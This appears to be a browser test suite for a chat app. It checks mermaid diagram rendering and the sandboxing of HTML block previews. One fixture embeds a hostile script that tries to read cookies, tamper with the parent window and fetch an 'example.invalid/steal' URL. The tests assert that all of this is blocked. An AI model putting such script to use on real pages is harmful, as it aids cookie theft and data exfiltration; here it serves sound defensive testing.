"""Diagrams and previews in real Chromium: a ```mermaid block drawn as a picture once it has
settled (code while it streams), its source a click away and copied either way; one that does
not parse shows its source under the parser's message; an ```html or ```svg block's Preview
runs its code in a sandboxed frame that reads no cookie and loads nothing. Mermaid's theme
follows the page's. Set `CHAT_SCREENSHOTS` to keep screenshots at 1280x800 and 390x844.
"""

from __future__ import annotations

from typing import Any
from urllib.parse import unquote

import pytest
from playwright.sync_api import expect

from .conftest import finished, send
from .conftest import screenshots as shoot

pytestmark = [pytest.mark.browser]

FLOW = """flowchart LR
    Ask[Ask a question] --> Think{Known?}
    Think -->|yes| Answer
    Think -->|no| Search --> Answer"""
BROKEN = "flowchart LR\n    A -->> B[[unclosed"


def leaving_requests(page: Any, server_url: str) -> list[str]:
    """The URLs of requests `page` sends to anywhere but the app from now on, as the network
    sees them (one the CSP refuses never gets this far), each answered with a failure."""
    left: list[str] = []

    def record(route: Any) -> None:
        left.append(route.request.url)
        route.abort()

    page.context.route(lambda url: not url.startswith((server_url, "data:")), record)
    return left


def diagram_answer(page: Any, source: str, before: str = "A diagram:") -> Any:
    return finished(page, f"{before}\n\n```mermaid\n{source}\n```\n")


def test_a_mermaid_block_is_drawn_with_its_source_a_click_away(alice: Any) -> None:
    answer = diagram_answer(alice, FLOW)
    block = answer.locator(".code-block[data-diagram='mermaid']")
    expect(block).to_have_attribute("data-drawing", "drawn", timeout=30_000)
    image = block.locator("figure.diagram img")
    expect(image).to_be_visible()
    expect(block.get_by_label("mermaid code")).to_be_hidden()
    assert image.evaluate("img => img.naturalWidth") > 100
    shoot(alice, "diagram")
    block.get_by_role("button", name="Show the diagram's source").click()
    expect(block.get_by_label("mermaid code")).to_be_visible()
    expect(image).to_be_hidden()
    expect(block.get_by_label("mermaid code")).to_contain_text("Ask[Ask a question]")
    shoot(alice, "diagram-source")
    block.get_by_role("button", name="Show the diagram").click()
    expect(image).to_be_visible()


def test_a_diagram_that_does_not_parse_shows_its_source_and_the_message(alice: Any) -> None:
    answer = diagram_answer(alice, BROKEN)
    block = answer.locator(".code-block[data-diagram='mermaid']")
    expect(block).to_have_attribute("data-drawing", "failed", timeout=30_000)
    expect(block.get_by_label("mermaid code")).to_be_visible()
    expect(block.locator(".diagram-note")).to_contain_text("This diagram could not be drawn")
    expect(block.locator(".diagram-error")).to_contain_text("Parse error")
    expect(block.locator("figure.diagram")).to_have_count(0)
    shoot(alice, "diagram-failed")


def test_a_diagram_shows_as_code_while_its_fence_is_open(alice: Any) -> None:
    words = " ".join(f"word{i}" for i in range(120))
    send(alice, f"```mermaid\n{FLOW}\n```\n\n{words}", "emulator/echo")
    answer = alice.locator("article.assistant").last
    alice.wait_for_function(
        """el => el.dataset.status === "streaming"
            && el.querySelector(".live-tail.code-block pre code")?.textContent.includes("flowchart")
            && !el.querySelector("figure.diagram")""",
        arg=answer.element_handle(),
    )
    block = answer.locator(".code-block[data-diagram='mermaid']")
    expect(block).to_have_attribute("data-drawing", "drawn", timeout=30_000)
    expect(answer).to_have_attribute("data-status", "completed", timeout=30_000)
    expect(block.locator("figure.diagram img")).to_be_visible()


def test_the_diagram_follows_the_theme(alice: Any) -> None:
    answer = diagram_answer(alice, FLOW)
    image = answer.locator("figure.diagram img")
    expect(image).to_be_visible(timeout=30_000)
    drawn = {}
    for theme in ("light", "dark"):
        alice.evaluate(f"document.documentElement.dataset.theme = '{theme}'")
        alice.wait_for_function(
            "([img, before]) => img.src !== before", arg=[image.element_handle(), ""]
        )
        alice.wait_for_function(
            "([img, others]) => !others.includes(img.src) && img.complete",
            arg=[image.element_handle(), list(drawn.values())],
        )
        drawn[theme] = image.get_attribute("src")
        shoot(alice, f"diagram-{theme}")
    assert drawn["light"] != drawn["dark"]
    svg = {theme: unquote(src.split(",", 1)[1]) for theme, src in drawn.items()}
    # Mermaid's dark theme draws light text on dark shapes, its default the opposite.
    assert "#ccc" in svg["dark"].lower() or "lightgrey" in svg["dark"].lower()


HTML = """<!doctype html><style>body{font:16px sans-serif;background:#fdf6e3}</style>
<h1>Hello</h1>
<p id="out">waiting</p>
<img src="https://example.invalid/leak.png" alt="">
<script>
let cookie;
try { cookie = "read: " + document.cookie; } catch (error) { cookie = "refused: " + error.name; }
try { parent.__pwned = "parent"; } catch (error) {}
try { top.__pwned = "top"; } catch (error) {}
try { parent.document.title = "pwned"; } catch (error) {}
try { localStorage.setItem("x", "1"); } catch (error) { cookie += ", storage refused"; }
fetch("https://example.invalid/steal").catch(() => {});
document.getElementById("out").textContent = cookie;
</script>"""


def test_an_html_block_is_previewed_in_a_sandbox_only_on_a_click(
    alice: Any, server_url: str
) -> None:
    left = leaving_requests(alice, server_url)
    answer = finished(alice, f"A page:\n\n```html\n{HTML}\n```\n")
    block = answer.locator(".code-block[data-preview='html']")
    button = block.get_by_role("button", name="Preview")
    expect(button).to_be_visible()
    expect(block.locator("iframe")).to_have_count(0)  # never opened by itself
    button.click()
    frame = block.locator("iframe.preview-frame")
    expect(frame).to_have_attribute("sandbox", "allow-scripts")
    inside = block.frame_locator("iframe.preview-frame")
    expect(inside.locator("h1")).to_have_text("Hello")
    expect(inside.locator("#out")).to_have_text("refused: SecurityError, storage refused")
    shoot(alice, "preview-html", lambda page: frame.scroll_into_view_if_needed())
    assert alice.evaluate("window.__pwned") is None
    assert alice.title() != "pwned"
    assert left == []
    block.get_by_role("button", name="Close preview").click()
    expect(frame).to_have_count(0)
